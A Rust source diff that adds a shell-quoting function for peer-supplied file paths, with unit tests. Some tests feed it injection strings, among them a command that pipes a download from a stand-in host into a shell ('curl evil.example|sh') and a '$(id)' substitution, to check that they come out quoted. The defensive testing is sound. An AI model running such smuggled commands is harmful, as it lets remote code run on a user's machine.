@@ -39,6 +39,17 @@ pub fn escape(text: &str, most: usize) -> String {
     shown
 }
 
+/// A path in a node's words, escaped, where a person is told what to do with it: one word of a shell's, so that nothing else
+/// can be said there.
+pub fn as_word(path: &str) -> String {
+    let plain = |c: char| c.is_alphanumeric() || "/._-+:@".contains(c);
+    if !path.is_empty() && path.chars().all(plain) {
+        path.to_owned()
+    } else {
+        format!("'{}'", path.replace('\'', "'\\''"))
+    }
+}
+
 /// By what Unicode says of it, not by a list of cases: what is a format character tomorrow is escaped tomorrow.
 fn is_invisible(c: char) -> bool {
     matches!(
@@ -63,7 +74,7 @@ fn category(c: char) -> GeneralCategory {
 
 #[cfg(test)]
 mod tests {
-    use super::escape;
+    use super::{as_word, escape};
 
     #[test]
     fn what_a_peer_sends_cannot_move_the_cursor() {
@@ -75,6 +86,16 @@ mod tests {
         assert_eq!(escape("上海上海", 2), "上海…");
         assert!(escape(&"\u{e0001}".repeat(1000), 1000).chars().count() <= 1001);
         assert_eq!(escape("\n\n\n", 3), "\\n\\n\\n");
+    }
+
+    #[test]
+    fn a_path_that_a_node_names_says_nothing_but_a_path() {
+        for path in ["/etc/ssl/privkey.pem", "/etc/证书/a_b-c.pem"] {
+            assert_eq!(as_word(path), path);
+        }
+        assert_eq!(as_word("/x right; curl evil.example|sh #"), "'/x right; curl evil.example|sh #'");
+        assert_eq!(as_word("/it's $(id)"), "'/it'\\''s $(id)'");
+        assert_eq!(as_word(""), "''");
     }
 
     #[test]
